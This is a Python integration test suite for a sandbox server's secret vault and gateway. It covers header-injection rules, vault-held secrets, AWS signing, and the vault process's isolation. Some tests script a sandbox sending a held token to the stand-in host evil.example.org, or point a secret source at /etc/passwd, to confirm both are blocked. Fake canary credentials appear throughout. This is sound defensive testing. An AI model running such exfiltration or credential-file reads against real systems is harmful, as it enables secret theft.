#!/usr/bin/env python3
"""Secrets of a server's sandboxes, in the Internet of test_gateway_secrets.py: headers by E2B's rules, what a team keeps
(/secrets) in our own API, changed and taken away while sandboxes run, and after the server has been killed. That values
are the vault's alone, whose process may die at any time. And that a sandbox reaches another's port by the server's own name, and nothing else of the server there.
"""
import contextlib
import json
import os
import pathlib
import secrets
import signal
import socket
import ssl
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

import frame  # noqa: F401  (its paths)

import canary
import harness
import process_tree
import serve_lab
import test_gateway_secrets
from test_gateway_secrets import PYTHON, VALUE

STAGE = "CAISSON_SERVE_SECRETS_STAGE"
OTHER = "ghp_otherCANARYotherCANARYother9876543"
ASK = 'print(*request("api.example.com", "/all", headers={"Authorization": "Bearer " + token})[::2])'
SERVE = """
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("host " + self.headers["Host"]).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers(); self.wfile.write(body)
http.server.HTTPServer(("127.0.0.1", 8080), Handler).serve_forever()
"""


class Served(test_gateway_secrets.Lab):
    ARGUMENTS = ()

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        context = serve_lab.fresh(tls=True, arguments=cls.ARGUMENTS)
        cls.server = context.__enter__()
        cls.addClassCleanup(context.__exit__, None, None, None)

    def setUp(self):
        self.forget()

    def ask(self, method, path, body=None, expect=None, may_say=False):
        request = urllib.request.Request(self.server.address["url"] + path, None if body is None else json.dumps(body).encode(),
                                         {"X-API-KEY": self.server.key, "Content-Type": "application/json"}, method=method)
        try:
            with urllib.request.urlopen(request, timeout=60) as answer:
                text = answer.read().decode()
                status = answer.status
                value = [json.loads(line) for line in text.splitlines()] if "ndjson" in answer.headers.get("Content-Type", "") else json.loads(text or "null")
        except urllib.error.HTTPError as error:
            status, text = error.code, error.read().decode()
            value = json.loads(text)
        if not may_say:
            self.assertNotIn("CANARY", text)
        if expect is not None:
            self.assertEqual(status, expect, value)
        return value

    @contextlib.contextmanager
    def sandbox(self, path="/sandboxes", expect=201, **fields):
        made = self.ask("POST", path, fields, expect)
        identity = made.get("sandboxID") or made["id"]
        try:
            yield identity
        finally:
            self.ask("DELETE", f"/sandboxes/{identity}")

    def e2b(self, **network):
        return self.sandbox(templateID="base", timeout=300, network=network)

    def inside(self, sandbox, script, token='""', may_say=False):
        script = PYTHON.replace('os.environ["GH_TOKEN"]', token) + script
        done = self.ask("POST", f"/v1/sandboxes/{sandbox}/exec", {"command": ["python3", "-c", script]}, 200, may_say)
        self.assertIn("end", done[-1], done)
        return "".join(line.get("stdout", "") for line in done).splitlines()

    def headers_seen(self, sandbox, host="api.example.com"):
        # The value of a header that E2B's rules set is no secret to who is sent it.
        (line,) = self.inside(sandbox, f'print(request("{host}", "/all")[1])', may_say=True)
        return json.loads(line)

    def assert_nothing_lies_about(self):
        """In the server's folders: the database with its journal, logs, records."""
        for folder in (self.server.caller.env["CAISSON_STATE_DIR"] + "/server", str(self.server.run_folder), str(self.server.log)):
            files = [pathlib.Path(folder)] if pathlib.Path(folder).is_file() else [f for f in pathlib.Path(folder).rglob("*") if f.is_file()]
            for file in files:
                self.assertNotIn(b"CANARY", file.read_bytes(), file)


class Stage(Served):
    # ---- E2B's rules ----

    def test_rules_set_headers_and_nobody_is_told_their_values(self):
        rules = {"api.example.com": [{"transform": {"headers": {"X-Token": VALUE, "X-Short": "v"}}}]}
        with self.e2b(rules=rules) as sandbox:
            seen = self.headers_seen(sandbox)
            self.assertEqual((seen["X-Token"], seen["X-Short"]), (VALUE, "v"))
            # TLS to other hosts stays closed: the program sees the lab's own certificate, which it does not trust.
            self.assertEqual(self.inside(sandbox, 'print(request("also.example.com", "/all")[1])'), ["SSLCertVerificationError"])
            shown = self.ask("GET", f"/sandboxes/{sandbox}")["network"]["rules"]
            self.assertEqual(shown, {"api.example.com": [{"transform": {"headers": {"X-Short": "***", "X-Token": "***"}}}]})
            self.assert_nothing_lies_about()
            # Other rules, in place of these.
            other = {"api.example.com": [{"transform": {"headers": {"X-Other": OTHER}}}]}
            self.ask("PUT", f"/sandboxes/{sandbox}/network", {"rules": other}, 204)
            seen = self.headers_seen(sandbox)
            self.assertEqual((seen.get("X-Token"), seen["X-Other"]), (None, OTHER))
            # A server that starts again can still tell the gateway something.
            self.server.stop(signal.SIGKILL)
            self.server.start()
            self.assertEqual(self.headers_seen(sandbox)["X-Other"], OTHER)
            self.ask("PUT", f"/sandboxes/{sandbox}/network", {"rules": rules}, 204)
            self.assertEqual(self.headers_seen(sandbox)["X-Token"], VALUE)

    def test_a_domain_with_rules_is_allowed_or_not_as_ever(self):
        rules = {"api.example.com": [{"transform": {"headers": {"X-Token": VALUE}}}]}
        with self.e2b(rules=rules, denyOut=["0.0.0.0/0"]) as sandbox:
            self.assertEqual(self.inside(sandbox, 'print(request("api.example.com", "/all")[:2])')[0][:2], "(0")
            self.assertEqual(self.received("good"), b"")
        with self.e2b(rules=rules, denyOut=["0.0.0.0/0"], allowOut=["api.example.com"]) as sandbox:
            self.assertEqual(self.headers_seen(sandbox)["X-Token"], VALUE)

    def test_a_sandbox_that_was_made_without_rules_gets_none_later(self):
        rules = {"api.example.com": [{"transform": {"headers": {"X-Token": VALUE}}}]}
        with self.e2b() as sandbox:
            refused = self.ask("PUT", f"/sandboxes/{sandbox}/network", {"rules": rules})
            self.assertIn("trusts no certificate of its gateway", refused["message"])

    # ---- what a team keeps ----

    def kept(self, name="forge", value=VALUE):
        made = self.ask("POST", "/secrets", {"name": name, "value": value}, 201)
        self.addCleanup(self.ask, "DELETE", f"/secrets/{name}")
        return made

    def spec(self, name="forge"):
        return {"image": "base", "network": {
            "rules": [{"hosts": ["api.example.com"]}, {"hosts": ["evil.example.org"], "tls": "inspect"}],
            "secrets": {"gh": {"env": "GH_TOKEN", "source": {"vault": name}, "hosts": ["api.example.com"]}}}}

    def test_a_kept_secret_is_used_renewed_and_revoked(self):
        self.kept()
        with self.sandbox("/v1/sandboxes", spec=self.spec()) as sandbox:
            ask = lambda: self.inside(sandbox, ASK, 'os.environ["GH_TOKEN"]')
            self.assertEqual(ask(), ["200 "])
            self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", self.received("good"))
            why = self.inside(sandbox, 'print(why(request("evil.example.org", headers={"Authorization": token})))', 'os.environ["GH_TOKEN"]')
            self.assertEqual(why, ["(403, 'secret_host')"])
            self.assert_nothing_lies_about()
            self.forget()
            self.assertEqual(self.ask("POST", "/secrets/forge", {"value": OTHER}, 200)["currentVersion"], 2)
            self.assertEqual(ask(), ["200 "])
            self.assertIn(b"Bearer " + OTHER.encode() + b"\r\n", self.received("good"))
            self.forget()
            self.ask("DELETE", "/secrets/forge", expect=204)
            self.assertEqual(ask(), ["503 denied; reason=secret_no_value"])
            self.assertEqual(self.received("good"), b"")

    def test_a_misuse_may_end_the_sandbox(self):
        self.kept()
        spec = self.spec()
        spec["network"]["secrets"]["gh"]["on_violation"] = "terminate"
        identity = self.ask("POST", "/v1/sandboxes", {"spec": spec}, 201)["id"]
        self.assertEqual(self.inside(identity, ASK, 'os.environ["GH_TOKEN"]'), ["200 "])
        script = PYTHON + 'print(why(request("evil.example.org", headers={"Authorization": token})))'
        done = self.ask("POST", f"/v1/sandboxes/{identity}/exec", {"command": ["python3", "-c", script]}, 200)
        verdict = done[-1]["end"]["verdict"]
        self.assertEqual((verdict["kind"], verdict["cause"], "on_violation: terminate" in verdict["message"]), ("policy_violation", "secret", True), done)
        self.assertEqual([line for line in done if "stdout" in line], [])
        # The command is told first.
        self.assertTrue(harness.wait_until(lambda: self.ask("GET", f"/v1/sandboxes/{identity}").get("code") == 404, 20))
        self.assertEqual(self.received("evil"), b"")

    def test_requests_are_signed_with_what_is_kept(self):
        """Both parts of the credentials; what curl signs with the placeholders comes with the access key that is kept."""
        access, key = "AKIACANARYCANARY2345", "canaryCANARY/canaryCANARY+canary01234567"
        self.kept("access", access)
        self.kept("key", key)
        spec = {"image": "base", "network": {"rules": [{"hosts": ["api.example.com"]}], "secrets": {"aws": {
            "kind": "sigv4", "access_key": {"vault": "access"}, "secret_key": {"vault": "key"}, "hosts": ["api.example.com"],
            "services": ["s3"], "regions": ["eu-central-1"]}}}}
        with self.sandbox("/v1/sandboxes", spec=spec) as sandbox:
            script = """curl -sS -o /dev/null -w '%{http_code}' --aws-sigv4 "aws:amz:$1:s3" -H 'x-amz-content-sha256: UNSIGNED-PAYLOAD' --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://api.example.com/all"""
            for region, wanted in (("eu-central-1", "200"), ("us-east-1", "403")):
                self.forget()
                done = self.ask("POST", f"/v1/sandboxes/{sandbox}/exec", {"command": ["bash", "-c", script, "sh", region]}, 200)
                self.assertEqual("".join(line.get("stdout", "") for line in done), wanted, done)
                self.assertEqual(f"Credential={access}/".encode() in self.received("good"), wanted == "200", self.received("good"))
                self.assertNotIn(key.encode(), self.received("good"))

    def test_a_fork_has_the_placeholder_and_the_secret(self):
        self.kept()
        with self.sandbox("/v1/sandboxes", spec=self.spec()) as sandbox:
            (token,) = self.inside(sandbox, "print(token)", 'os.environ["GH_TOKEN"]')
            (fork,) = self.ask("POST", f"/sandboxes/{sandbox}/fork", {"count": 1}, 201)
            fork = fork["sandbox"]["sandboxID"]
            try:
                self.assertEqual(self.inside(fork, "print(token)", 'os.environ["GH_TOKEN"]'), [token])
                self.assertEqual(self.inside(fork, ASK, 'os.environ["GH_TOKEN"]'), ["200 "])
            finally:
                self.ask("DELETE", f"/sandboxes/{fork}")
            self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", self.received("good"))

    def test_the_command_line_keeps_lists_and_forgets(self):
        def caisson(*words, **named):
            return self.server.caller.caisson("secret", *words, "--server", self.server.address["url"], env={"CAISSON_API_KEY": self.server.key, **named.pop("env", {})},
                                              **named)
        done = caisson("set", "Forge", input=VALUE.encode() + b"\n")
        self.assertEqual((done.returncode, done.out), (0, ""), done)
        self.assertEqual(caisson("set", "forge", "--from", "env:OTHER", env={"OTHER": OTHER}).returncode, 0)
        listed = caisson("ls")
        self.assertRegex(listed.out, r"forge +2 +20")
        self.assertNotIn("CANARY", listed.out)
        self.assertEqual(caisson("ls", "--quiet").out, "forge\n")
        made = self.server.caller.caisson("run", "--server", self.server.address["url"], "--net", "allow:api.example.com", "--secret", "GH_TOKEN=vault:forge@api.example.com",
                                          "--", "python3", "-c", PYTHON + ASK, env={"CAISSON_API_KEY": self.server.key})
        self.assertEqual(made.out, "200 \n", made)
        self.assertIn(b"Bearer " + OTHER.encode() + b"\r\n", self.received("good"))
        self.assertEqual(caisson("rm", "forge").returncode, 0)
        self.assertEqual(caisson("ls", "--json").out, "[]\n")
        for words, told in ((("rm", "forge"), "not found"), (("set", "a/b"), "found 'a/b'"), (("set", "a", VALUE), "allowed is a name"),
                            (("set", "a", "--from", "env:NOT_SET"), "NOT_SET is not set"), (("set", "a"), "has 5 bytes")):
            done = caisson(*words, input=b"short")
            self.assertEqual(done.returncode, 125, done)
            self.assertIn(told, done.err)
            self.assertNotIn("CANARY", done.err)
        done = self.server.caller.caisson("secret", "ls")
        self.assertIn("secrets are kept by a server", done.err)

    def test_e2bs_rules_refer_to_what_is_kept(self):
        self.kept()
        with self.e2b(rules={"api.example.com": [{"transform": {"headers": {"Authorization": "Bearer ${e2b.secrets.forge}"}}}]}) as sandbox:
            self.assertEqual(self.inside(sandbox, ASK, '"mine"'), ["200 "])
            got = self.received("good")
            self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", got)
            self.assertNotIn(b"mine", got)

    def test_what_nobody_keeps_and_what_is_this_hosts_makes_no_sandbox(self):
        refused = self.ask("POST", "/v1/sandboxes", {"spec": self.spec("nothing")}, 400)
        self.assertIn("the vault has no secret nothing", refused["message"])
        spec = self.spec()
        spec["network"]["secrets"]["gh"]["source"] = {"file": "/etc/passwd"}
        self.assertIn("network.secrets.gh.source", self.ask("POST", "/v1/sandboxes", {"spec": spec}, 400)["message"])

    # ---- the vault's process ----

    def processes(self):
        """{name: pid} of the server's own; the worker of the vault is its keeper's child."""
        found = {}
        for pid, _, _ in process_tree.descendants(self.server.process.pid):
            try:
                name = pathlib.Path(f"/proc/{pid}/comm").read_text().strip()
            except OSError:
                continue  # it has ended
            if name in ("caisson-serve", "vault-keeper", "caisson-vault", "caisson-maker"):
                found[name] = pid
        return found

    def send_raw(self, head, pieces, tls):
        """A request whose body goes out in these pieces, as the server then reads it; the answer's status."""
        url = urllib.parse.urlsplit(self.server.address["url"])
        connection = socket.create_connection((url.hostname, url.port), 20)
        if tls:
            host, _, port = self.server.address["domain"].partition(":")
            connection.close()
            context = ssl.create_default_context(cafile=self.server.address["ca"])
            connection = context.wrap_socket(socket.create_connection(("127.0.0.1", int(port)), 20), server_hostname="api." + host)
            head = head.replace("Host: x", "Host: api." + host)
        with connection:
            connection.sendall(f"{head}\r\nX-API-KEY: {self.server.key}\r\n\r\n".encode())
            for piece in pieces:
                connection.sendall(piece)
                time.sleep(0.05)
            return int(connection.recv(65536).split()[1])

    def test_a_value_goes_through_the_server_and_stays_nowhere_in_it(self):
        names = self.processes()
        self.assertEqual(sorted(names), ["caisson-maker", "caisson-serve", "caisson-vault", "vault-keeper"])
        planted = secrets.token_urlsafe(32)
        for tls in (False, True):
            for way in ("whole", "pieces", "chunked", "refused"):
                with self.subTest(tls=tls, way=way):
                    value = secrets.token_urlsafe(32)
                    name = f"canary-{tls}-{way}".lower()
                    body = json.dumps({"name": name, "value": value, "metadata": {"planted": planted}}).encode()
                    head = "POST /secrets HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    pieces, expected = [body], 201
                    if way == "pieces":
                        middle = body.index(value.encode()) + 20
                        pieces = [body[:middle], body[middle:]]
                    if way == "refused":
                        pieces, expected = [body + b"x"], 400
                    if way == "chunked":
                        framed = [b"%x\r\n%s\r\n" % (len(body[at:at + 30]), body[at:at + 30]) for at in range(0, len(body), 30)]
                        status = self.send_raw(head + "Transfer-Encoding: chunked", [*framed, b"0\r\n\r\n"], tls)
                    else:
                        status = self.send_raw(head + f"Content-Length: {sum(map(len, pieces))}", pieces, tls)
                    self.assertEqual(status, expected)
                    if expected == 201:
                        self.addCleanup(self.ask, "DELETE", f"/secrets/{name}")
                    time.sleep(0.2)
                    # Pieces of another length than the frames', which any of them could be cut into.
                    forms = canary.forms(value.encode())
                    for process in ("caisson-serve", "vault-keeper", "caisson-maker"):
                        self.assertEqual(canary.in_process(forms, names[process]), {}, process)
                    for folder in (self.server.caller.env["CAISSON_STATE_DIR"] + "/server", self.server.caller.env["CAISSON_STATE_DIR"] + "/vault"):
                        self.assertEqual(canary.in_tree(forms, folder), {})
        # The same search finds what is no secret, and is kept in the database.
        self.assertIn("memory", canary.in_process(canary.forms(planted.encode()), names["caisson-serve"]))

    def test_the_vault_is_somebody_else_whom_nobody_can_look_into(self):
        names = self.processes()
        status = {name: dict(line.split(":\t", 1) for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)
                  for name, pid in names.items()}
        uids = {name: status[name]["Uid"].split()[0] for name in names}
        self.assertEqual(len({uids["caisson-serve"], uids["caisson-vault"], "0"}), 3, uids)
        self.assertEqual(uids["caisson-vault"], str(0x7ffcf003))
        vault = status["caisson-vault"]
        self.assertEqual((int(vault["CapEff"], 16), vault["NoNewPrivs"], vault["Seccomp"]), (0, "1", "2"))
        self.assertGreater(int(vault["VmLck"].split()[0]), 1000)
        self.assertRegex(pathlib.Path(f"/proc/{names['caisson-vault']}/limits").read_text(), r"Max core file size +0 +0 +bytes")
        self.assertEqual(os.stat(f"/proc/{names['caisson-vault']}/environ").st_uid, 0)
        # The key: neither of the two can open it, and none has it open.
        key = pathlib.Path(self.server.caller.env["CAISSON_STATE_DIR"], "vault", "key")
        self.assertEqual((key.stat().st_uid, key.stat().st_mode & 0o777, key.parent.stat().st_mode & 0o777), (0, 0o600, 0o700))
        for name in ("caisson-vault", "caisson-serve"):
            opened = [os.readlink(entry) for entry in pathlib.Path(f"/proc/{names[name]}/fd").iterdir()]
            self.assertEqual([path for path in opened if "/vault" in path], [], name)

    def test_a_vault_that_is_killed_is_started_again_and_sandboxes_go_on(self):
        self.kept()
        with self.sandbox("/v1/sandboxes", spec=self.spec()) as sandbox:
            use = lambda: self.inside(sandbox, ASK, 'os.environ["GH_TOKEN"]')
            self.assertEqual(use(), ["200 "])
            over, seen = threading.Event(), []
            def load(number):
                made = self.ask("POST", "/secrets", {"name": f"load-{number}", "value": VALUE})
                while not over.is_set():
                    seen.append(self.ask("POST", f"/secrets/load-{number}", {"value": OTHER}))
                return made
            threads = [threading.Thread(target=load, args=(number,)) for number in range(4)]
            for thread in threads:
                thread.start()
            try:
                for _ in range(3):
                    worker = self.processes()["caisson-vault"]
                    os.kill(worker, signal.SIGKILL)
                    # Its gateway has what it needs.
                    self.assertEqual(use(), ["200 "])
                    self.assertTrue(harness.wait_until(lambda: self.processes().get("caisson-vault", worker) != worker, 10))
                    before = len(seen)
                    self.assertTrue(harness.wait_until(lambda: len(seen) > before + 8, 20))
            finally:
                over.set()
                for thread in threads:
                    thread.join()
            for number in range(4):
                self.ask("DELETE", f"/secrets/load-{number}", expect=204)
            refused = [answer for answer in seen if "code" in answer]
            self.assertEqual({answer["code"] for answer in refused} - {503}, set(), refused)
            for answer in refused:
                self.assertIn("caisson-vault, which has the secrets, has ended, and is started again", answer["message"])
            self.assertGreater(len(seen) - len(refused), 20)
            # The new one has the key: what was kept before is renewed, and another sandbox has it.
            self.forget()
            self.ask("POST", "/secrets/forge", {"value": OTHER}, 200)
            self.assertEqual(use(), ["200 "])
            self.assertIn(b"Bearer " + OTHER.encode() + b"\r\n", self.received("good"))
            self.assertIsNone(self.server.process.poll())

    def test_a_server_whose_vault_cannot_be_started_again_ends(self):
        os.kill(self.processes()["vault-keeper"], signal.SIGKILL)
        self.assertEqual(self.server.process.wait(20), 125)
        self.assertIn('"process":"caisson-vault"', self.server.said())
        self.server.stop()
        self.server.start()
        self.kept()

    # ---- another sandbox's port ----

    def test_a_sandbox_reaches_anothers_port_and_nothing_else_of_the_server(self):
        domain = self.server.address["domain"]
        with self.e2b() as shown, self.e2b() as sandbox:
            started = self.ask("POST", f"/v1/sandboxes/{shown}/commands", {"command": ["python3", "-c", SERVE]})
            self.assertIn("pid", json.dumps(started))
            script = """
import socket, ssl, sys, time
name, port = sys.argv[1].rsplit(":", 1)
def ask(host, sni=name):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    try:
        with context.wrap_socket(socket.create_connection((sni, int(port)), 10), server_hostname=sni) as s:
            s.sendall(f"GET /sandboxes HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
            data = b""
            while piece := s.recv(4096): data += piece
            return data.split(b"\\r\\n")[0].decode() + " " + data.rpartition(b"\\r\\n")[2].decode()
    except OSError as error:
        return type(error).__name__
for _ in range(50):
    answer = ask(sys.argv[1])
    if " 200 " in answer: break
    time.sleep(0.2)
print(answer)
print(ask("api." + name.partition(".")[2])[:12], ask("api." + name.partition(".")[2], name + ".")[:12], ask("127.0.0.1")[:12])
print(ask("api.x", "api." + name.partition(".")[2]))
""".replace("\\\\", "\\")
            done = self.ask("POST", f"/v1/sandboxes/{sandbox}/exec", {"command": ["python3", "-c", script, f"8080-{shown}.{domain}"]}, 200)
            lines = "".join(line.get("stdout", "") for line in done).splitlines()
            self.assertEqual(lines[0], f"HTTP/1.1 200 OK host 8080-{shown}.{domain}", done)
            self.assertEqual(lines[1], "HTTP/1.1 421 HTTP/1.1 421 HTTP/1.1 421", done)
            # A server that starts again answers where it did; that clients outside use another port now is not known inside.
            self.server.stop(signal.SIGKILL)
            self.server.start()
            done = self.ask("POST", f"/v1/sandboxes/{sandbox}/exec", {"command": ["python3", "-c", script, f"8080-{shown}.{domain}"]}, 200)
            again = "".join(line.get("stdout", "") for line in done).splitlines()
            self.assertEqual(again[:2], lines[:2], done)
            self.assertIn(lines[2], ("SSLError", "SSLEOFError", "ConnectionResetError"), done)


class Later(Served):
    """A server whose sandboxes all trust their gateways, from the pool too."""

    ARGUMENTS = ("--e2b-inspect-later", "true")

    def test_a_sandbox_that_was_made_without_rules_gets_some_and_loses_them(self):
        rules = {"api.example.com": [{"transform": {"headers": {"X-Token": VALUE}}}]}
        for _ in range(3):  # the third is one that was ready
            with self.e2b() as sandbox:
                # Nothing is opened before: the program sees the lab's own certificate, which it does not trust.
                self.assertEqual(self.inside(sandbox, 'print(request("api.example.com", "/all")[1])'), ["SSLCertVerificationError"])
                self.ask("PUT", f"/sandboxes/{sandbox}/network", {"rules": rules}, 204)
                self.assertEqual(self.headers_seen(sandbox)["X-Token"], VALUE)
                self.server.stop(signal.SIGKILL)
                self.server.start()
                self.assertEqual(self.headers_seen(sandbox)["X-Token"], VALUE)
                self.ask("PUT", f"/sandboxes/{sandbox}/network", {}, 204)
                self.assertEqual(self.inside(sandbox, 'print(request("api.example.com", "/all")[1])'), ["SSLCertVerificationError"])
                self.assert_nothing_lies_about()

    def test_a_sandbox_that_is_made_with_rules_has_them(self):
        rules = {"api.example.com": [{"transform": {"headers": {"X-Token": VALUE}}}]}
        with self.e2b(rules=rules) as sandbox:
            self.assertEqual(self.headers_seen(sandbox)["X-Token"], VALUE)
        with self.e2b(denyOut=["0.0.0.0/0"]) as sandbox:
            self.assertEqual(self.inside(sandbox, 'print(request("api.example.com", "/all")[:2])')[0][:2], "(0")


if __name__ == "__main__":
    test_gateway_secrets.main(__file__, STAGE)
